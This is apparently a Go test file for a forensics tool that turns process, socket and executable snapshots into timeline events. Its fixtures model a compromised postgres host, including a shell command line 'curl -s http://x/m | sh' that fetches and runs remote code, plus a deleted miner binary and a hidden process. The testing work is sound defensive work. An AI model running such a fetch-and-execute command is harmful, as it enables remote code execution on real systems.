package snapshot

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/timeline"
)

var testOrigin = timeline.Origin{Bundle: "ev1", Entry: ProcessesEntry, SHA256: "ab", Host: "web01"}

func jsonl(t *testing.T, recs ...any) []byte {
	var b bytes.Buffer
	for _, r := range recs {
		if s, ok := r.(string); ok {
			b.WriteString(s + "\n")
			continue
		}
		j, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(append(j, '\n'))
	}
	return b.Bytes()
}

func TestProcessEventsAncestryAndReuse(t *testing.T) {
	boot := time.Date(2026, 11, 2, 8, 0, 0, 0, time.UTC)
	at := func(s int) time.Time { return boot.Add(time.Duration(s) * time.Second) }
	data := jsonl(t,
		Process{PID: 1, Status: StatusOK, Comm: "systemd", Start: at(0), StartTicks: 1},
		Process{PID: 700, PPID: 1, Status: StatusOK, Comm: "postgres", Exe: "/usr/lib/postgresql/15/bin/postgres", Start: at(10), StartTicks: 1000},
		Process{PID: 4242, PPID: 700, Status: StatusOK, Comm: "sh", Cmdline: []string{"sh", "-c", "curl -s http://x/m | sh"}, Cwd: "/var/lib/postgresql/15/main", Start: at(100), StartTicks: 10000, UIDs: []uint32{105, 105, 105, 105}, UserNames: []string{"postgres", "postgres", "postgres", "postgres"}},
		Process{PID: 4300, PPID: 4242, Status: StatusOK, Comm: "mysql", Exe: "/tmp/mysql (deleted)", ExeDeleted: true, Suspect: []string{"exe deleted", "exe under /tmp"}, Start: at(120), StartTicks: 12000},
		// Its parent PID 900 started after it: PID reuse, not its parent.
		Process{PID: 900, PPID: 1, Status: StatusOK, Comm: "cron", Start: at(500), StartTicks: 50000},
		Process{PID: 800, PPID: 900, Status: StatusOK, Comm: "orphan", Start: at(200), StartTicks: 20000},
		Process{PID: 999, Status: StatusVanished, Errors: map[string]string{"stat": "no such process"}},
		`{"pid": "not a number"}`,
	)
	var warns []timeline.Warning
	procs, err := ReadProcesses(bytes.NewReader(data), testOrigin, func(w timeline.Warning) { warns = append(warns, w) })
	if err != nil {
		t.Fatal(err)
	}
	if len(procs) != 7 || len(warns) != 1 || warns[0].Line != 8 {
		t.Fatalf("%d records, warnings %+v; want 7 and one at line 8", len(procs), warns)
	}
	res := ProcessEvents(procs, testOrigin)
	byPID := map[int64]timeline.Event{}
	for _, e := range res.Events {
		byPID[e.Process.PID] = e
	}
	if len(res.Events) != 6 || len(res.Warnings) != 1 {
		t.Fatalf("%d events, warnings %+v; want 6 and one (the vanished process)", len(res.Events), res.Warnings)
	}
	m := byPID[4300]
	if m.Process.Parent == nil || m.Process.Parent.PID != 4242 || m.Process.Parent.EntityID != "4242@10000" || m.Process.Parent.CommandLine != "sh -c curl -s http://x/m | sh" {
		t.Errorf("miner parent %+v", m.Process.Parent)
	}
	if sh := byPID[4242]; sh.Process.WorkingDir != "/var/lib/postgresql/15/main" {
		t.Errorf("sh working directory %q", sh.Process.WorkingDir)
	}
	if got, want := m.Labels["ancestry"], "4300:mysql < 4242:sh < 700:postgres < 1:systemd"; got != want {
		t.Errorf("ancestry %q, want %q", got, want)
	}
	if m.Process.EntityID != "4300@12000" || !m.Timestamp.Equal(at(120)) || m.Labels["exe_deleted"] != "true" || !strings.Contains(m.Message, "suspect") {
		t.Errorf("miner event %+v", m)
	}
	if m.Cordon.Provenance.Line != 4 || m.Cordon.Provenance.Entry != ProcessesEntry || m.Cordon.TimeMeaning != timeline.MeaningStart {
		t.Errorf("provenance %+v", m.Cordon)
	}
	if sh := byPID[4242]; sh.User == nil || sh.User.Name != "postgres" || sh.User.ID != "105" {
		t.Errorf("sh user %+v", sh.User)
	}
	o := byPID[800]
	if o.Process.Parent == nil || o.Process.Parent.EntityID != "" || o.Labels["parent_note"] == "" || o.Labels["ancestry"] != "800:orphan < 900:?" {
		t.Errorf("orphan with a reused parent PID: parent %+v labels %v", o.Process.Parent, o.Labels)
	}
}

func TestProcessEventsCycle(t *testing.T) {
	// Hostile records: a parent cycle must not loop.
	now := time.Now().UTC()
	procs := []Located[Process]{
		{V: Process{PID: 2, PPID: 3, Status: StatusOK, Comm: "a", Start: now}},
		{V: Process{PID: 3, PPID: 2, Status: StatusOK, Comm: "b", Start: now}},
	}
	res := ProcessEvents(procs, testOrigin)
	if len(res.Events) != 2 {
		t.Fatalf("%d events", len(res.Events))
	}
}

func TestSocketEvents(t *testing.T) {
	now := time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)
	data := jsonl(t,
		Socket{NetNS: 4026532000, File: "tcp", Transport: "tcp", Family: "ipv4", State: "LISTEN", LocalIP: "0.0.0.0", LocalPort: 5432, Listening: true, AllInterfaces: true, Inode: 77,
			Holders: []Holder{{PID: 700, FD: 5, Comm: "postgres", StartTicks: 1000}}, Line: 2, ObservedAt: now},
		Socket{NetNS: 4026532000, File: "tcp6", Transport: "tcp", Family: "ipv6", State: "ESTABLISHED", LocalIP: "2001:db8::1", LocalPort: 40000, RemoteIP: "2001:db8::2", RemotePort: 3333, Inode: 78, ObservedAt: now},
		Socket{Inode: 79},
	)
	var warns []timeline.Warning
	socks, err := ReadSockets(bytes.NewReader(data), testOrigin, func(w timeline.Warning) { warns = append(warns, w) })
	if err != nil {
		t.Fatal(err)
	}
	res := SocketEvents(socks, testOrigin)
	if len(res.Events) != 2 || len(res.Warnings) != 1 {
		t.Fatalf("%d events, %d warnings", len(res.Events), len(res.Warnings))
	}
	l := res.Events[0]
	if l.Event.Action != "socket-listening" || l.Process == nil || l.Process.PID != 700 || l.Process.EntityID != "700@1000" || l.Labels["all_interfaces"] != "true" || l.Source.Port != 5432 {
		t.Errorf("listener event %+v", l)
	}
	c := res.Events[1]
	if c.Event.Action != "socket-connected" || c.Destination == nil || c.Destination.Port != 3333 || !strings.Contains(c.Message, "[2001:db8::2]:3333") {
		t.Errorf("connection event %+v", c)
	}
}

func TestHostFactsEvents(t *testing.T) {
	f := HostFacts{Hostname: "web01", Kernel: "6.1.0", BootTime: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC), ReadAt: time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)}
	b, _ := json.Marshal(f)
	g, err := ReadHostFacts(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	res := HostFactsEvents(g, testOrigin)
	if len(res.Events) != 2 || res.Events[0].Cordon.TimeMeaning != timeline.MeaningBoot || !res.Events[0].Timestamp.Equal(f.BootTime) {
		t.Fatalf("events %+v", res.Events)
	}
	if _, err := ReadHostFacts(strings.NewReader("{")); err == nil {
		t.Errorf("truncated host facts read without error")
	}
}

func TestReadJSONLLongLine(t *testing.T) {
	long := `{"pid": 1, "comm": "` + strings.Repeat("a", MaxLine) + `"}`
	data := []byte(long + "\n" + `{"pid": 2, "status": "ok"}` + "\n")
	var warns []timeline.Warning
	procs, err := ReadProcesses(bytes.NewReader(data), testOrigin, func(w timeline.Warning) { warns = append(warns, w) })
	if err != nil {
		t.Fatal(err)
	}
	if len(procs) != 1 || procs[0].V.PID != 2 || procs[0].Line != 2 || procs[0].Offset != int64(len(long)+1) {
		t.Fatalf("records %+v", procs)
	}
	if len(warns) != 1 || warns[0].Line != 1 || !strings.Contains(warns[0].Message, "longer") {
		t.Fatalf("warnings %+v", warns)
	}
}

func FuzzReadProcesses(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		procs, _ := ReadProcesses(bytes.NewReader(data), testOrigin, func(timeline.Warning) {})
		ProcessEvents(procs, testOrigin)
		socks, _ := ReadSockets(bytes.NewReader(data), testOrigin, func(timeline.Warning) {})
		SocketEvents(socks, testOrigin)
		xs, _ := ReadExecutables(bytes.NewReader(data), testOrigin, func(timeline.Warning) {})
		ExecutableEvents(xs, testOrigin)
		if h, err := ReadHiddenPIDs(bytes.NewReader(data)); err == nil {
			HiddenPIDEvents(h, testOrigin)
		}
		if f, err := ReadHostFacts(bytes.NewReader(data)); err == nil {
			HostFactsEvents(f, testOrigin)
		}
	})
}

func TestExecutableAndHiddenEvents(t *testing.T) {
	now := time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)
	data := jsonl(t,
		Executable{PID: 4300, StartTicks: 12000, Kind: "exe", Link: "/tmp/mysql (deleted)", Entry: "proc/4300/exe", SHA256: "aa", Size: 10, Copied: 10,
			ELF: &ELF{Class: "ELFCLASS64", Machine: "EM_X86_64", Type: "ET_EXEC", BuildID: "bb"}, ObservedAt: now},
		Executable{PID: 4301, Kind: "exe", Link: "/tmp/mysql (deleted)", SameAs: "proc/4300/exe", ObservedAt: now},
		Executable{PID: 5000, Kind: "fd", FD: 3, Link: "/tmp/f (deleted)", Error: "not a regular file", ObservedAt: now},
		Executable{PID: 1},
	)
	var warns []timeline.Warning
	xs, err := ReadExecutables(bytes.NewReader(data), testOrigin, func(w timeline.Warning) { warns = append(warns, w) })
	if err != nil || len(xs) != 4 {
		t.Fatalf("%d records, %v", len(xs), err)
	}
	res := ExecutableEvents(xs, testOrigin)
	if len(res.Events) != 3 || len(res.Warnings) != 1 {
		t.Fatalf("%d events, %d warnings", len(res.Events), len(res.Warnings))
	}
	e := res.Events[0]
	if e.Event.Action != "executable-recovered" || e.Process.Hash == nil || e.Process.Hash.SHA256 != "aa" || e.Process.EntityID != "4300@12000" || e.Labels["elf.build_id"] != "bb" || e.Event.Outcome != "success" {
		t.Errorf("recovered executable event %+v", e)
	}
	if f := res.Events[2]; f.Event.Outcome != "failure" || f.Event.Action != "deleted-file-recovered" || !strings.Contains(f.Message, "not a regular file") {
		t.Errorf("failed copy event %+v", f)
	}
	h := HiddenPIDs{Complete: false, Errors: []string{"cut"}, ObservedAt: now, Hidden: []HiddenPID{{PID: 31337, TGID: 31337, Comm: "kworker/0:9"}}}
	b, _ := json.Marshal(h)
	h2, err := ReadHiddenPIDs(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	hr := HiddenPIDEvents(h2, testOrigin)
	if len(hr.Events) != 1 || hr.Events[0].Event.Kind != "alert" || hr.Events[0].Process.PID != 31337 || len(hr.Warnings) != 1 {
		t.Errorf("hidden events %+v warnings %+v", hr.Events, hr.Warnings)
	}
	// With the hidden process's whole record, its start is an event too.
	h.Hidden[0].Process = &Process{PID: 31337, PPID: 1, Comm: "kworker/0:9", Exe: "/dev/shm/.k (deleted)", Start: now.Add(-time.Hour), StartTicks: 9000, Status: StatusOK}
	b, _ = json.Marshal(h)
	h2, _ = ReadHiddenPIDs(bytes.NewReader(b))
	hr = HiddenPIDEvents(h2, testOrigin)
	if len(hr.Events) != 2 || hr.Events[1].Event.Action != "process-started" || hr.Events[1].Labels["hidden"] != "true" || hr.Events[1].Process.EntityID != "31337@9000" {
		t.Errorf("hidden process with its record: %+v", hr.Events)
	}
}

// TestGarbage: random bytes and half-valid records in every snapshot entry
// give warnings or errors with their places, never a panic, and the valid
// records around them are still read.
func TestGarbage(t *testing.T) {
	junk := make([]byte, 64<<10)
	for i := range junk {
		junk[i] = byte(i*7919 + i>>3)
	}
	valid := `{"pid":42,"ppid":1,"comm":"sshd","exe":"/usr/sbin/sshd","start":"2026-11-02T10:00:00Z","status":"ok"}`
	in := append(append([]byte(valid+"\n"), junk...), []byte("\n{\"pid\":\"not a number\"}\n"+valid+"\n")...)
	var warns int
	procs, err := ReadProcesses(bytes.NewReader(in), testOrigin, func(timeline.Warning) { warns++ })
	if err != nil {
		t.Fatal(err)
	}
	if len(procs) != 2 || warns == 0 {
		t.Errorf("%d processes, %d warnings", len(procs), warns)
	}
	ProcessEvents(procs, testOrigin)
	socks, _ := ReadSockets(bytes.NewReader(junk), testOrigin, func(timeline.Warning) {})
	SocketEvents(socks, testOrigin)
	xs, _ := ReadExecutables(bytes.NewReader(junk), testOrigin, func(timeline.Warning) {})
	ExecutableEvents(xs, testOrigin)
	if _, err := ReadHostFacts(bytes.NewReader(junk)); err == nil {
		t.Error("garbage host facts accepted")
	}
	if _, err := ReadHiddenPIDs(bytes.NewReader(junk)); err == nil {
		t.Error("garbage hidden PIDs accepted")
	}
}
